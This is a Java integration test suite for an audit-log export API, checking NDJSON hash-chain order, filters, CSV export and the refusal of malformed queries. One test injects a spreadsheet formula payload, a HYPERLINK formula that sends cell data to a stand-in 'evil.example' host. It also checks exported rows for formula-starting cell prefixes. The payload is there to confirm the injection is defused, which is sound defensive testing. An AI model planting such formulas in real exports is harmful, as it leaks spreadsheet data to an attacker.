package org.lifeline.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.StringReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * The trail exported for a SIEM: NDJSON in trail order with each entry's hash and its previous one's (so the SIEM can
 * check the chain), filtered by time, type and account; CSV with formula injection defused; the export itself on the
 * trail; bad filters a 400.
 */
class AuditExportIT extends DeployedEarTest {

    private final String auditor = Tokens.forSubject("auditor-1", "auditor");

    @Test
    void anAccountsChainExportsInOrderWithItsHashes() {
        String account = Tokens.newAccountId("export");
        String user = Tokens.forSubject(account, "user");
        assertEquals(200, api.get("/api/v1/me/security", user).status());
        Flows.enrollAndConfirm(api, user, AuthenticatorApp.currentStep());
        Api.Reply lost = api.post("/api/v1/me/lost-device", user, "");
        assertEquals(200, lost.status(), lost::toString);
        long exportsBefore = exports();

        List<JsonObject> lines = ndjson("/api/v1/audit-log/events?accountId=" + account);
        assertEquals(
                List.of("ACCOUNT_CREATED", "AUTHENTICATOR_ENROLLMENT_STARTED"),
                types(lines).subList(0, 2));
        assertTrue(lines.size() >= 3, lines::toString);
        for (int i = 0; i < lines.size(); i++) {
            JsonObject line = lines.get(i);
            assertEquals(account, line.getString("accountId"));
            assertEquals(64, line.getString("hash").length());
            assertTrue(line.containsKey("details") && line.get("details") instanceof JsonObject, line::toString);
            assertEquals(account, line.getJsonObject("actor").getString("subject"));
            if (i > 0) {
                assertTrue(line.getJsonNumber("id").longValue()
                        > lines.get(i - 1).getJsonNumber("id").longValue());
                assertEquals(lines.get(i - 1).getString("hash"), line.getString("previousHash"), "the chain links");
            }
        }
        assertEquals(exportsBefore + 1, exports(), "the export is on the trail");

        Instant afterFirst = Instant.parse(lines.get(1).getString("occurredAt"));
        List<JsonObject> frozen = ndjson("/api/v1/audit-log/events?accountId=" + account + "&type=AUTHENTICATOR_FROZEN"
                + "&since=" + afterFirst);
        assertEquals(List.of("AUTHENTICATOR_FROZEN"), types(frozen));
        assertEquals(
                List.of(), ndjson("/api/v1/audit-log/events?accountId=" + account + "&until=2000-01-01T00:00:00Z"));
    }

    @Test
    void csvDefusesWhatASpreadsheetWouldRun() {
        String account = Tokens.newAccountId("export-csv");
        String hostile = "=HYPERLINK(\"http://evil.example/\"&A1)";
        assertEquals(
                200,
                api.get("/api/v1/accounts/" + account + "/security", Tokens.forSubject(hostile, "service"))
                        .status());
        Api.Reply csv = api.send(api.request("/api/v1/audit-log/events?accountId=" + account, auditor)
                .setHeader("Accept", "text/csv")
                .GET());
        assertEquals(200, csv.status(), csv::toString);
        assertTrue(csv.contentType().startsWith("text/csv"), csv.contentType());
        String[] rows = csv.body().split("\r\n");
        assertEquals("id,accountId,type,occurredAt,actorSubject,actorRole,details,hash,previousHash", rows[0]);
        assertTrue(rows[1].contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",service,"), rows[1]);
        for (String row : rows) {
            for (String start : List.of(",=", ",\"=", ",+", ",\"+", ",@", ",\"@")) {
                assertFalse(row.contains(start), "a cell a spreadsheet would run: " + row);
            }
        }
    }

    @Test
    void badFiltersAndWrongCallersAreRefused() {
        for (String query : List.of("since=yesterday", "until=2026-13-01", "type=NOPE", "accountId=" + enc("a b"))) {
            Api.Reply reply = api.send(api.request("/api/v1/audit-log/events?" + query, auditor)
                    .setHeader("Accept", "application/x-ndjson")
                    .GET());
            assertEquals(400, reply.status(), query + " -> " + reply);
            AccountSecurityIT.assertProblem(reply, "invalid-request");
        }
        assertEquals(
                403,
                api.send(api.request("/api/v1/audit-log/events", Tokens.forSubject("agent-1", "support"))
                                .setHeader("Accept", "application/x-ndjson")
                                .GET())
                        .status());
        assertEquals(
                406,
                api.send(api.request("/api/v1/audit-log/events", auditor)
                                .setHeader("Accept", "application/json")
                                .GET())
                        .status());
    }

    private List<JsonObject> ndjson(String path) {
        Api.Reply reply = api.send(api.request(path, auditor)
                .setHeader("Accept", "application/x-ndjson")
                .GET());
        assertEquals(200, reply.status(), reply::toString);
        assertTrue(reply.contentType().startsWith("application/x-ndjson"), reply.contentType());
        return reply.body()
                .lines()
                .filter(line -> !line.isBlank())
                .map(line -> Json.createReader(new StringReader(line)).readObject())
                .toList();
    }

    private static List<String> types(List<JsonObject> lines) {
        return lines.stream().map(line -> line.getString("type")).toList();
    }

    private static long exports() {
        return Database.count("SELECT COUNT(*) FROM audit_event WHERE chain_id = '~system'"
                + " AND event_type = 'AUDIT_LOG_EXPORTED' AND actor_subject = 'auditor-1'");
    }

    private static String enc(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8) + "&x=" + UUID.randomUUID();
    }
}
